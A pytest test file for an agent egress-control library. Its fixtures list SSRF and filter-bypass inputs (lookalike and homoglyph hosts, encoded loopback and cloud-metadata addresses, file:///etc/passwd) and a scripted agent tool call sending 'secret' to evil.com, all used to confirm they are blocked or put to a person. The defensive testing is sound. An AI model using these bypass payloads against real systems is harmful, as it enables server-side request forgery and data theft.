"""Nothing points to an address that is not allowed: on every surface, and on the wire."""

from __future__ import annotations

import asyncio
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from types import SimpleNamespace
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from langchain.agents import create_agent
from langchain_core.language_models.fake_chat_models import FakeMessagesListChatModel
from langchain_core.messages import AIMessage
from langchain_core.tools import tool
from langgraph.types import Command
from pydantic import ValidationError

from lg_production import Checkpointer
from lg_production.core.events import Event
from lg_production.core.wrappers import tool_node
from lg_production.errors import EgressDenied
from lg_production.middleware import as_middleware
from lg_production.security.egress import Egress, EgressPolicy
from lg_production.security.resolving import PinnedTransport, pinned
from tests.graphs_for_tests import ASK, agent, call, says, thread

POLICY = EgressPolicy(
    hosts=frozenset({"good.com", "*.sub.org"}),
    emails=frozenset({"@good.com", "Ann@x.org", "@*.corp.org"}),
    networks=("10.1.0.0/16",),
)
SURFACES = pytest.mark.parametrize(
    ("surface", "is_async"),
    [(s, a) for s in ("tool_node", "send", "create_agent") for a in (False, True)],
)


def reasons(policy: EgressPolicy = POLICY, /, **arguments: Any) -> list[str]:
    return list(dict.fromkeys(one.reason for one in policy.check(arguments)))


@pytest.mark.parametrize(
    "arguments",
    [
        {"url": "https://good.com/a?b=c#d"}, {"url": "GOOD.com:443"}, {"url": "a.sub.org"},
        {"url": "http://10.1.2.3/"}, {"to": "Bob <bob@good.com>"}, {"to": "ANN@x.org"},
        {"to": "ann@a.corp.org"}, {"note": "at 12:30 read notes.md, f(x).y"}, {"to": "Ann"},
        {"url": "/local/path"}, {"a": [{"b": (1, None, True, 2.5)}]}, {},
    ],
)  # fmt: skip
def test_what_is_listed_may_be_reached(arguments):
    """A star is everything below, an e-mail domain everybody in it."""
    assert [] == reasons(**arguments)


@pytest.mark.parametrize(
    ("arguments", "reason"),
    [
        ({"q": "https://good.com.evil.com"}, "host_not_allowed"),
        ({"q": "https://x.good.com"}, "host_not_allowed"), ({"q": "//sub.org"}, "host_not_allowed"),
        ({"q": "https://good.com@evil.com"}, "host_not_allowed"),
        ({"q": "https://good.com/?u=https%3A%2F%2Fevil.com"}, "host_not_allowed"),
        ({"host": "intranet"}, "host_not_allowed"), ({"q": "curl localhost:80"}, "host_not_allowed"), ({"domain": "user.id"}, "host_not_allowed"),
        ({"q": "see gооd.com/x"}, "host_not_allowed"), ({"a": {"evil.com": 1}}, "host_not_allowed"),
        ({"q": "mail bob@x.org"}, "email_not_allowed"), ({"to": "bob@corp"}, "email_not_allowed"),
        ({"to": "an\u200bn@x.org"}, "email_not_allowed"),
        ({"to": "ann@corp.org"}, "email_not_allowed"),
        ({"url": "127.1"}, "private_address"), ({"ip": 2130706433}, "private_address"),
        ({"url": "http://0x7f000001"}, "private_address"), ({"x": "10.2.0.1"}, "private_address"),
        ({"url": "http://[::ffff:169.254.169.254]/"}, "private_address"),
        ({"url": "http://[64:ff9b::a00:1]/"}, "private_address"),
        ({"url": "http://[2002:7f00:1::]/"}, "private_address"),
        ({"x": "http://010.8.8.8"}, "private_address"), ({"x": "8.8.8.8"}, "address_not_allowed"),
        ({"x": "file:///etc/passwd"}, "scheme_not_allowed"),
        ({"x": "gopher://good.com"}, "scheme_not_allowed"), ({"x": "http://{h}/"}, "host_unreadable"),
        ({"url": "ht\ntps://ev\til.com"}, "host_not_allowed"), ({"x": b"evil.com"}, "host_not_allowed"),
    ],
)  # fmt: skip
def test_what_is_not_listed_may_not(arguments, reason):
    """In any argument, at any depth, in a key, in any notation."""
    assert reason in reasons(**arguments)


def test_a_star_is_every_public_name_and_a_wide_network_every_public_address():
    """Machines nearby must be named."""
    policy = EgressPolicy(hosts=frozenset({"*"}), networks=("0.0.0.0/0", "127.0.0.0/8"))
    near = ["localhost", "db", "x.internal", "10.0.0.1", "169.254.169.254"]

    assert [None] * 3 == [policy.refuses_host(host) for host in ("a.com", "8.8.8.8", "127.0.0.1")]
    assert 5 == sum(policy.refuses_host(host) is not None for host in near)


@pytest.mark.parametrize(
    "listed",
    [{"hosts": {"1.2.3.4"}}, {"hosts": {"a b"}}, {"emails": {"ann"}}, {"networks": ["x"]},
     {"host": {"a.com"}}],
)  # fmt: skip
def test_a_policy_that_says_nothing_clear_is_refused(listed):
    """When it is made."""
    with pytest.raises(ValidationError):
        EgressPolicy(**listed)


@settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    st.recursive(
        st.text() | st.integers() | st.binary(),
        lambda c: st.lists(c) | st.dictionaries(st.text(), c),
    )
)
def test_any_arguments_can_be_checked(value):
    """And what is checked twice is checked alike."""
    assert POLICY.check({"url": value}) == POLICY.check({"url": value})


def test_deep_arguments_are_checked():
    """However deep."""
    deep: Any = "evil.com"
    for _ in range(3_000):
        deep = [deep]

    assert ["host_not_allowed"] == reasons(x=deep)


# ------------------------------------------------------------------------- on every surface


class Scripted(FakeMessagesListChatModel):
    def bind_tools(self, tools: Any, **kwargs: Any) -> Any:
        return self


class World:
    """A page that can be fetched, behind an `Egress`."""

    def __init__(self, database: Any, *calls: Any, surface: str = "tool_node",
                 is_async: bool = False, **options: Any) -> None:  # fmt: skip
        self.fetched: list[str] = []
        self.events: list[Event] = []
        self.is_async, self.config = is_async, thread()
        own = Egress(POLICY, observers=[self.events.append], **options)

        @tool
        def get(url: str) -> str:
            """Get a page."""
            self.fetched.append(url)
            return "page"

        saver = Checkpointer(database)
        if surface == "create_agent":
            said = [AIMessage("", tool_calls=list(calls)), AIMessage("done")]
            self.graph = create_agent(
                Scripted(responses=said), [get], middleware=as_middleware(own), checkpointer=saver
            )
        else:
            graph = agent(says(*calls), tool_node([get], own), send=surface == "send")
            self.graph = graph.compile(checkpointer=saver)

    def run(self, given: Any) -> Any:
        if self.is_async:
            return asyncio.run(self.graph.ainvoke(given, self.config))
        return self.graph.invoke(given, self.config)


LEAK = call("get", "c1", url="https://evil.com/?q=secret")


@SURFACES
@pytest.mark.parametrize(("decision", "count"), [("approve", 1), ("reject", 0)])
def test_a_call_that_would_leak_is_put_to_a_person(database, surface, is_async, decision, count):
    """It runs once if he says so, and not at all if he does not; events hold no value."""
    world = World(database, LEAK, surface=surface, is_async=is_async)
    asked = world.run(ASK)["__interrupt__"][0].value["action_requests"][0]
    before = list(world.fetched)
    world.run(Command(resume={"decisions": [{"type": decision, "digest": asked["digest"]}]}))

    assert [] == before
    assert ["host_not_allowed"] == asked["reasons"]
    assert ("url", LEAK["args"]["url"]) == (
        asked["provenance"][0]["argument"], asked["provenance"][0]["value"],
    )  # fmt: skip
    assert count == len(world.fetched)
    assert {"egress.held", "egress.decided"} == {event.name for event in world.events}
    assert not any("evil" in str(event) for event in world.events)


def test_what_is_edited_runs_as_a_person_wrote_it(database):
    """His own words."""
    world = World(database, LEAK)
    world.run(ASK)
    args = {"url": "https://good.com"}
    edited = {"type": "edit", "edited_action": {"name": "get", "args": args}}
    world.run(Command(resume={"decisions": [edited]}))

    assert ["https://good.com"] == world.fetched


@pytest.mark.parametrize("answer", ["yes", True, {"type": "approve", "digest": "other"}, {"x": 1}])
def test_an_answer_that_makes_no_sense_is_asked_for_again(database, answer):
    """It approves nothing."""
    world = World(database, LEAK)
    world.run(ASK)
    again = world.run(Command(resume=answer))["__interrupt__"][0].value

    assert "did not count" in again["action_requests"][0]["description"]
    assert [] == world.fetched


@SURFACES
def test_a_blocked_call_tells_the_model_nothing(database, surface, is_async):
    """Neither the host nor the rule."""
    world = World(database, LEAK, surface=surface, is_async=is_async, on_held="block")
    refused = world.run(ASK)["messages"][-2]

    assert ("error", []) == (refused.status, world.fetched)
    assert "evil" not in refused.content


def test_an_error_says_where_and_not_what(database):
    """Typed fields; the value stays out."""
    world = World(database, LEAK, on_held="error")
    with pytest.raises(EgressDenied) as caught:
        world.run(ASK)

    assert ("get", "url", "host_not_allowed") == (
        caught.value.tool, caught.value.argument, caught.value.reason,
    )  # fmt: skip
    assert "evil" not in str(caught.value)


def test_a_call_that_nobody_can_read_is_refused():
    """Arguments too deep to be written down."""
    deep: Any = "https://evil.com"
    for _ in range(400):
        deep = [deep]
    ran: list[Any] = []
    request: Any = SimpleNamespace(tool_call=call("get", "c1", url=deep))
    refused = Egress(POLICY).wrap_tool_call(request, ran.append)

    assert ("error", "get was not carried out. Its arguments are too deep to be shown to a person. Call it with simpler ones.", []) == (
        refused.status, refused.content, ran,
    )  # fmt: skip


def test_among_several_calls_in_one_task_none_is_asked_about(database):
    """The others run, and the model is told to make that one by itself."""
    good = call("get", "c2", url="https://good.com")
    world = World(database, LEAK, good)
    state = world.run(ASK)

    assert ["https://good.com"] == world.fetched
    assert ["call it by itself" in m.content for m in state["messages"] if m.type == "tool"] == [
        True, False,
    ]  # fmt: skip


# ----------------------------------------------------------------------------- on the wire


def test_a_name_is_resolved_once_and_every_address_is_checked():
    """One internal address among them is enough to refuse."""
    answers = {"good.com": ["93.184.216.34"], "a.sub.org": ["93.184.216.34", "fe80::1%eth0"]}
    asked: list[str] = []

    def resolve(host: str, port: int) -> list[str]:
        asked.append(host)
        return answers[host]

    with pytest.raises(EgressDenied):
        pinned(POLICY, "a.sub.org", resolve=resolve)
    with pytest.raises(EgressDenied):
        pinned(POLICY, "evil.com", resolve=resolve)

    assert "93.184.216.34" == pinned(POLICY, "Good.com.", resolve=resolve).address
    assert ["a.sub.org", "good.com"] == asked


class Page(BaseHTTPRequestHandler):
    """Redirects /to/<host> there, and answers with the host that it was asked for."""

    def do_GET(self) -> None:
        if self.path.startswith("/to/"):
            self.send_response(302)
            self.send_header("Location", f"http://{self.path[4:]}/")
            self.end_headers()
            return
        body = self.headers["Host"].encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def port():
    """The port of a server on this machine."""
    with HTTPServer(("127.0.0.1", 0), Page) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server.server_port
        server.shutdown()
        thread.join()


NEAR = EgressPolicy(hosts=frozenset({"good.com"}), networks=("127.0.0.0/8",))


@pytest.mark.parametrize("is_async", [False, True])
def test_the_connection_goes_to_the_address_that_was_checked(port, is_async):
    """A second answer of the resolver changes nothing, and a redirect elsewhere is refused."""
    answers = iter([["127.0.0.1"], ["127.0.0.1"], ["10.0.0.1"]])

    async def aget(path: str) -> httpx.Response:
        transport = PinnedTransport(NEAR, resolve=lambda *_: next(answers))
        async with httpx.AsyncClient(transport=transport, trust_env=False) as client:
            return await client.get(f"http://good.com:{port}{path}", follow_redirects=True)

    def get(path: str) -> httpx.Response:
        if is_async:
            return asyncio.run(aget(path))
        transport = PinnedTransport(NEAR, resolve=lambda *_: next(answers))
        with httpx.Client(transport=transport, trust_env=False) as client:
            return client.get(f"http://good.com:{port}{path}", follow_redirects=True)

    first = get("/")
    with pytest.raises(EgressDenied):
        get("/to/evil.com")
    with pytest.raises(EgressDenied):
        get("/")

    assert f"good.com:{port}" == first.text
    assert "good.com" == first.url.host
